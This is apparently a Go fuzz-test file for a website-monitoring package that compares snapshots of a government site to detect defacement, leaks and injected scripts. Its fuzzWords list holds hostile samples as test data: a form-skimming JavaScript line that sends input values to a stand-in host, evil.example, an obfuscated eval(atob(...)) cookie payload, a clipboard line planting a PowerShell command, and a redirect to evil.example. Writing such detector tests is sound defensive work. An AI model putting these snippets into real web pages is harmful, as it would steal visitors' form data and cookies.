package compare

import (
	"encoding/json"
	"image"
	"math"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

// tape gives views of every shape from the bytes that fuzzing chooses.
type tape struct{ data []byte }

func (t *tape) next() int {
	if len(t.data) == 0 {
		return 0
	}
	v := int(t.data[0])
	t.data = t.data[1:]
	return v
}

// number is mostly small, and at times as far out as an int32 goes.
func (t *tape) number() int32 {
	switch v := t.next(); v {
	case 253:
		return math.MinInt32
	case 254:
		return math.MaxInt32
	case 255:
		return 1 << 29
	default:
		return int32(v-8) * 4
	}
}

func (t *tape) box() Box { return Box{t.number(), t.number(), t.number(), t.number()} }

// fuzzWords are what views are made of, beside raw bytes: words that rules look for.
var fuzzWords = []string{"", "Ministry of Planning", "Hacked by QuietFox", "your site has been hacked", "slot gacor maxwin togel judi online", "نے ہیک کر لی", "本站已被黑",
	"35202-1234567-1 35202-1234567-2 35202-1234567-3 35202-1234567-4 35202-1234567-5", "Index of /", "Parent Directory", "DB_PASSWORD=x APP_KEY=y", "a@b.co",
	"https://www.planning.gov.pk/", "https://evil.example/x.js", "//evil.example", "javascript:x()", "http://[::1", "data:,x", "https://portal.planning.gov.pk/a?b#c", "%zz",
	"display-none", "same-colour", "#main.a", "password", "cardnumber", "post", "external", "inline", "handler", "x.exe", "0;url=https://evil.example/", "casino",
	"document.forms[0].elements;new Image().src='//evil.example/?'+document.querySelector('input').value;fetch('//evil.example/',{body:FormData})",
	"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))", "navigator.clipboard.writeText('powershell -enc')", "Warning: mysqli_query(): You have an error in your SQL syntax"}

func (t *tape) word() string {
	v := t.next()
	if v < 4*len(fuzzWords) {
		return fuzzWords[v%len(fuzzWords)]
	}
	n := min(v%12, len(t.data))
	s := strings.ToValidUTF8(string(t.data[:n]), "\ufffd") // as it comes from the browser
	t.data = t.data[n:]
	return s
}

var fuzzTags = []string{"div", "p", "a", "b", "img", "h1", "script", "title", "span", "pre", "marquee", "td"}

func (t *tape) look() Look {
	v := View{URL: "https://www.planning.gov.pk/", FinalURL: t.word(), Status: 200, Title: t.word(), DOMDigest: digest(t.word()), Partial: t.next() == 1}
	for range t.next() & 31 {
		v.Elements = append(v.Elements, Element{Parent: int32(t.next()) - 2, Tag: fuzzTags[t.next()%len(fuzzTags)], Key: t.word(), Text: t.word(), Box: t.box(),
			Hidden: t.word(), Src: t.word(), Alt: t.word(), FontSize: float32(t.next())})
	}
	for range t.next() & 7 {
		v.Links = append(v.Links, Link{URL: t.word(), Text: t.word(), Hidden: t.word(), Box: t.box()})
		v.Forms = append(v.Forms, Form{Action: t.word(), Method: t.word(), Inputs: []Input{{Kind: t.word(), Name: t.word(), Label: t.word()}}, Box: t.box()})
	}
	for range t.next() & 3 {
		v.Frames = append(v.Frames, Frame{URL: t.word(), Hidden: t.word(), Box: t.box()})
		v.Destinations = append(v.Destinations, Destination{Host: t.word(), PostBytes: int64(t.number())})
		v.Downloads = append(v.Downloads, Download{URL: t.word(), Name: t.word()})
		v.Dialogs, v.Popups = append(v.Dialogs, t.word()), append(v.Popups, t.word())
	}
	v.Meta = Meta{Refresh: t.word(), Base: t.word()}
	l := Look{View: v, Sources: map[string]string{}}
	for range t.next() & 3 {
		s := Script{Kind: t.word(), URL: t.word(), Host: t.word(), SHA256: t.word(), Tokens: t.word(), Length: int(t.number()), Ran: true}
		l.View.Scripts = append(l.View.Scripts, s)
		l.Sources[s.SHA256] = t.word()
	}
	return l
}

// FuzzCompare: two views of any shape give a report that is the same each time,
// within its bounds, that can be kept, and that a kept baseline gives as well.
func FuzzCompare(f *testing.F) {
	f.Add([]byte{}, []byte{})
	f.Add([]byte(strings.Repeat("\x01\x0c\x03\x02\x05", 60)), []byte(strings.Repeat("\x02\x0d\x07\x21\x03", 60)))
	f.Add([]byte(strings.Repeat("\x0c\x01\x0b\x04\xff\xfe\xfd", 50)), []byte(strings.Repeat("\x0d\x02\x1f\x04\xfd\xfe\xff", 50)))
	f.Add([]byte(strings.Repeat("\x1f\x20\x21\x22\x23", 60)), []byte(strings.Repeat("\x90ab\x00\xffde\x1b", 60)))
	f.Fuzz(func(t *testing.T, before, after []byte) {
		approved, next := (&tape{before}).look(), (&tape{after}).look()
		base := learned(approved)
		for _, b := range []*Baseline{nil, base} {
			r := Compare(b, next, []Box{{0, 0, 8, 8}})
			checkReport(t, r)
			if again := Compare(b, next, []Box{{0, 0, 8, 8}}); !reflect.DeepEqual(again, r) {
				t.Fatalf("one view, two reports:\n%s\n%s", describe(r), describe(again))
			}
		}
		if base == nil {
			return
		}
		if r := Compare(base, approved, nil); r.Verdict != Unchanged {
			t.Errorf("the approved look itself: %s", describe(r))
		}
		kept := keptBaseline(t, base)
		kept.Sources = base.Sources
		if a, b := Compare(base, next, nil), Compare(kept, next, nil); !reflect.DeepEqual(a, b) {
			t.Errorf("the baseline says, and once it was kept:\n%s\n%s", describe(a), describe(b))
		}
	})
}

// keptBaseline is a baseline as it comes back from storage.
func keptBaseline(t *testing.T, b *Baseline) *Baseline {
	t.Helper()
	data, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	kept := new(Baseline)
	if err := json.Unmarshal(data, kept); err != nil {
		t.Fatal(err)
	}
	return kept
}

// checkReport is what everybody who reads a report relies on.
func checkReport(t *testing.T, r *Report) {
	t.Helper()
	if !(r.Score >= 0 && r.Score <= 1) || !(r.ChangedShare >= 0 && r.ChangedShare <= 1) || r.Verdict == "" || r.Why == "" {
		t.Errorf("score %v, share %v, verdict %q, why %q", r.Score, r.ChangedShare, r.Verdict, r.Why)
	}
	if len(r.Changed) > maxBoxes || len(r.Gone) > maxBoxes {
		t.Errorf("%d and %d regions", len(r.Changed), len(r.Gone))
	}
	for _, x := range r.Findings {
		if _, known := ruleByID[x.Rule]; !known || x.Why == "" || x.Severity.Rank() == 0 || !(x.Score > 0 && x.Score <= 1) {
			t.Errorf("the finding %+v", x)
		}
		if n := utf8.RuneCountInString(x.Evidence); n > 1000 {
			t.Errorf("evidence of %d characters for %s", n, x.Rule)
		}
		if x.Region != nil && (x.Region.W <= 0 || x.Region.H <= 0) {
			t.Errorf("%s is found in the region %v", x.Rule, *x.Region)
		}
	}
	if _, err := json.Marshal(r); err != nil {
		t.Errorf("the report cannot be kept: %v", err)
	}
}

// fuzzPicture paints a small picture from bytes, two pixels a byte.
func fuzzPicture(w int, pix []byte) *image.RGBA {
	w = max(1, w&63)
	img := image.NewRGBA(image.Rect(0, 0, w, min(256, len(pix)/w+1)))
	for i := range img.Pix {
		img.Pix[i] = 255
		if i/4 < len(pix) && i&3 != 3 {
			img.Pix[i] = pix[i/4] * byte(i&3+1)
		}
	}
	return img
}

// FuzzPictures: pictures and regions of any size are compared and drawn without
// leaving the picture, and a picture does not differ from itself.
func FuzzPictures(f *testing.F) {
	stripes := []byte(strings.Repeat("aaaaaaaabbbbbbbbccccccccdddddddd", 40))
	f.Add(uint8(32), stripes, uint8(32), stripes[200:], int32(3), int32(4), int32(20), int32(30))
	f.Add(uint8(32), stripes, uint8(17), stripes, int32(-5), int32(-5), int32(math.MaxInt32), int32(math.MaxInt32))
	f.Add(uint8(1), []byte{1}, uint8(63), []byte{}, int32(math.MinInt32), int32(math.MaxInt32), int32(-1), int32(0))
	f.Fuzz(func(t *testing.T, wb uint8, before []byte, wa uint8, after []byte, x, y, w, h int32) {
		b, a := fuzzPicture(int(wb), before), fuzzPicture(int(wa), after)
		region := Box{x, y, w, h}
		c := Secret(7).diff(b, a, []Box{region}, []Box{region})
		inside(t, "changed", c.Changed, a)
		inside(t, "gone", c.Gone, b)
		if !(c.Share >= 0 && c.Share <= 1) {
			t.Errorf("%v of the picture differs", c.Share)
		}
		if same := Diff(a, clone(a), nil); len(same.Changed)+len(same.Gone) != 0 || same.Share != 0 {
			t.Errorf("a picture differs from itself: %+v", same)
		}
		r := &Report{Changed: append(c.Changed, region), Gone: append(c.Gone, region),
			Findings: []Finding{{Kind: Leak, Region: &region}, {Kind: Leak}, {Kind: Defacement, Region: &region}}}
		was, is, difference := DrawBefore(b, r).Rect, DrawAfter(a, r).Rect, DrawDifference(a, r).Rect
		if was != b.Rect || is != a.Rect || difference != a.Rect {
			t.Errorf("drawn in %v, %v and %v, the pictures are %v and %v", was, is, difference, b.Rect, a.Rect)
		}
		unlike(b, a, region, region)
		if small := shrink(a, 16, 24); len(tiles(shrink(a, printSide, printSide))) != tileColumns*tileRows || small.Rect.Dx() != 16 || small.Rect.Dy() != 24 {
			t.Errorf("%v shrinks to %v", a.Rect, small.Rect)
		}
	})
}

func inside(t *testing.T, what string, boxes []Box, img *image.RGBA) {
	t.Helper()
	for _, b := range boxes {
		if b.W <= 0 || b.H <= 0 || !rectOf(b).In(img.Rect) {
			t.Errorf("%s: %v leaves the picture %v", what, b, img.Rect)
		}
	}
}

// FuzzBaseline: a baseline that others wrote is refused, or compares like one of ours.
func FuzzBaseline(f *testing.F) {
	look := (&tape{[]byte(strings.Repeat("\x01\x0c\x03\x02\x05", 60))}).look()
	ours, err := json.Marshal(learned(look))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(ours)
	f.Add([]byte(`{"cores":[{"text":"AAAAAQAAAAA="},{"own_links":-1}],"secret":99,"prints":[{"hash":[1],"quality":99,"tiles":"AA=="},{}],"images":[{"src":"x","box":{"X":-1,"W":-5,"H":9},"steady":true}],"volatile":[{"X":2147483647,"W":2147483647,"H":1}]}`))
	f.Add([]byte(`{"known":"AAA","phrases":null,"sites":["z","a"],"scripts":[{}],"newest":{"Elements":[{"p":99}]}}`))
	picture := painted(64, 1)
	f.Fuzz(func(t *testing.T, data []byte) {
		b := new(Baseline)
		if json.Unmarshal(data, b) != nil {
			return
		}
		sets := []hashSet{b.Known}
		for _, c := range b.Cores {
			sets = append(sets, c.Text, c.Paths, c.Vocabulary, c.Landmarks)
		}
		for _, set := range sets {
			for i := 1; i < len(set); i++ {
				if set[i-1] >= set[i] {
					t.Fatalf("the set %v is not in order", set)
				}
			}
		}
		l := look
		l.Picture, b.Reference = picture, picture
		checkReport(t, Compare(b, l, nil))
		keptBaseline(t, b)
	})
}

// FuzzAddresses: what is made of an address is bounded by it, in lower case, and
// stays what it is when it is read once more.
func FuzzAddresses(f *testing.F) {
	for _, s := range fuzzWords {
		f.Add(s)
	}
	for _, s := range []string{"https://WWW.Mofa.GOV.pk./x", "//a.b", "http://127.0.0.1:8/", "https://a.b/jquery-3.7.1.min.js?v=1", "http://xn--/", "https://co.uk/", "http://.pk/", "http://a..pk/",
		"0; URL = 'https://evil.example/'", "https://a.b/%2f%00", "http://user@host/", "http://[fe80::1%25x]/", "https://\u202e.pk/", "//\x84\x84\x84", "0_0_0"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		host := hostOf(s)
		if host != strings.ToLower(host) || len(host) > 3*len(s)+8 || strings.Contains(host, "/") {
			t.Errorf("%q has the host %q", s, host)
		}
		site := siteOf(host)
		if !strings.HasSuffix(host, site) || siteOf(site) != site {
			t.Errorf("%q is of the site %q, and that of %q", host, site, siteOf(site))
		}
		if isService(host) && openCDN[site] {
			t.Errorf("%q serves anybody's files and is a service", host)
		}
		if name := fileOf(s); len(name) > 3*len(s) || strings.Contains(name, "/") {
			t.Errorf("%q is the file %q", s, name)
		}
		if to := refreshURL(View{Meta: Meta{Refresh: s}}); !strings.Contains(s, to) {
			t.Errorf("%q leads to %q", s, to)
		}
		if words := linkWords(s); strings.ContainsAny(words, "/._-") {
			t.Errorf("%q has the words %q", s, words)
		}
		if e := excerpt(s); utf8.RuneCountInString(e) > 120 || strings.ContainsAny(e, "\r\n\t") {
			t.Errorf("%q is quoted as %q", s, e)
		}
		if u := unescapeJS(s); len(u) > len(s) && utf8.ValidString(s) {
			t.Errorf("%q unescaped is %q", s, u)
		}
	})
}
